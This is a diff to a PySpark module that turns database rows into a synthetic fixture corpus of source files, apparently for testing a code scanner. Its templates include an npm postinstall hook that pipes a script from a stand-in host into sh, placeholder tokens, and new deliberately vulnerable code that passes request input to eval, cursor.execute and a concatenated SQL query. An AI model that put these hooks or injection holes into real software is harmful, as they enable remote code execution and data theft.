@@ -1,8 +1,11 @@
 """The fixture corpus: source files derived row by row from the ``documents`` table.
 
-Each document becomes one file. ``doc_id % 14`` picks a skeleton (a few lines of code,
-manifest or text), ``{n}`` becomes the id, and the document's own lines follow as
-comments. The corpus therefore grows with ``documents`` and carries its text volume.
+Each document becomes one file. ``doc_id`` modulo the number of skeletons picks one (a few lines of code,
+manifest or text), ``{n}`` becomes the id and ``{m}`` the next one. The document's own lines follow as comments, or its
+text stands as a JSON member in place of ``{text}``. The corpus therefore grows with ``documents`` and carries all its text.
+
+The skeletons in ``PAIRED`` share a tree of their own with the documents next to them, so that calls lead into other files:
+some through imports under another name, some by name alone with more than one candidate.
 """
 
 from __future__ import annotations
@@ -13,7 +16,7 @@ from pyspark.sql import functions as F
 from sentrel.functions.text import detect_language
 from sentrel.session import spread
 
-# --- Fixed values: (path, comment prefix or None when no text is appended, lines) ---
+# --- Fixed values: (path, comment prefix or None when the text stands in a line, lines) ---
 SKELETONS = (
     ("src/config_{n}.py", "# ", (
         'import os',
@@ -107,6 +110,7 @@ SKELETONS = (
         '{',
         '  "name": "pkg{n}",',
         '  "main": "index.js",',
+        '  "readme": "{text}",',
         '  "scripts": { "postinstall": "curl http://x.test/i.sh | sh" },',
         '  "dependencies": { "left": "latest" }',
         '}',
@@ -121,7 +125,7 @@ SKELETONS = (
         'AUTHORIZATION=Bearer abc{n}',
     )),
     ("web/bundle_{n}.js.map", None, (
-        '{"version":3,"sources":["a{n}.ts"]}',
+        '{"version":3,"sources":["a{n}.ts"],"sourcesContent":["{text}"]}',
     )),
     ("tests/test_config_{n}.py", "# ", (
         'api_key = "T{n}abcdefghijkl"',
@@ -143,17 +147,56 @@ SKELETONS = (
         '    """Sum of two numbers."""',
         '    return a + b',
     )),
+    ("app/enter_{n}.py", "# ", (
+        'from lib.store_{m} import save_item as keep',
+        'def enter_{n}(request):',
+        '    raw = request.args["item"]',
+        '    keep(raw)',
+        '    put_row(raw)',
+    )),
+    ("lib/store_{n}.py", "# ", (
+        'def save_item(stmt):',
+        '    cursor.execute(stmt)',
+        '',
+        'def put_row(row):',
+        '    db.query(row)',
+    )),
+    ("lib/zz_{n}.py", "# ", (
+        'def save_item(stmt):',
+        '    eval(stmt)',
+        '',
+        'def put_row(row):',
+        '    eval(row)',
+    )),
+    ("src/broken_{n}.py", "# ", (
+        'def broken_{n}(request:',
+        '    eval(request.args["x"])',
+    )),
+    ("web/send_{n}.js", "// ", (
+        'const { save: keepRow } = require("./rows_{m}");',
+        'function send_{n}(req) {',
+        '  const id = req.query.id;',
+        '  keepRow(id);',
+        '}',
+    )),
+    ("web/rows_{n}.js", "// ", (
+        'function save(v) {',
+        '  db.query("SELECT " + v);',
+        '}',
+    )),
 )
+PAIRED = (14, 15, 16, 18, 19)
+JSON_ESCAPES = (("\\", "\\\\"), ('"', '\\"'), ("\n", "\\n"), ("\r", "\\r"), ("\t", "\\t"))
 # --- end of fixed values -----------------------------------------------------
 
 
 def files_from_documents(documents: DataFrame) -> DataFrame:
     """``files(repo, path, size, text, language)`` with one file per document.
 
-    Row-local: the skeletons are literals in the plan (a 14-entry map by residue), so a
-    document never leaves its partition. ``repo`` is the document's ``source``.
+    Row-local: the skeletons are literals in the plan (an array by residue), so a
+    document never leaves its partition. ``repo`` is the document's ``source``, or that of its pair.
     """
-    doc = F.col("doc_id").cast("string")
+    doc, following = F.col("doc_id").cast("string"), (F.col("doc_id") + 1).cast("string")
     residue = F.pmod(F.col("doc_id"), F.lit(len(SKELETONS))).cast("int")
     template = F.element_at(
         F.array(
@@ -167,14 +210,20 @@ def files_from_documents(documents: DataFrame) -> DataFrame:
     own_lines = F.split(F.rtrim("text", F.lit("\n")), "\\n", -1)
     commented = F.transform(own_lines, lambda line: F.concat(F.col("template.prefix"), line))
     path = F.replace(F.col("template.path"), F.lit("{n}"), doc)
+    escaped = F.coalesce("text", F.lit(""))
+    for mark, escape in JSON_ESCAPES:
+        escaped = F.replace(escaped, F.lit(mark), F.lit(escape))
+    pair = F.concat(F.lit("pair_"), F.floor(F.col("doc_id") / len(SKELETONS)).cast("string"))
+    repo = F.when(residue.isin(*PAIRED), pair).otherwise(F.coalesce("source", F.lit("unknown")))
+    code = F.replace(F.replace(F.col("template.code"), F.lit("{n}"), doc), F.lit("{m}"), following)
     return (
-        documents.select("doc_id", "text", F.coalesce("source", F.lit("unknown")).alias("repo"), template.alias("template"))
+        documents.select("doc_id", "text", repo.alias("repo"), template.alias("template"))
         .select(
             "repo",
             path.alias("path"),
             F.concat_ws(
                 "\n",
-                F.replace(F.col("template.code"), F.lit("{n}"), doc),
+                F.when(F.col("template.prefix").isNotNull(), code).otherwise(F.replace(code, F.lit("{text}"), escaped)),
                 F.when(F.col("template.prefix").isNotNull(), F.array_join(commented, "\n")),
             ).alias("text"),
         )
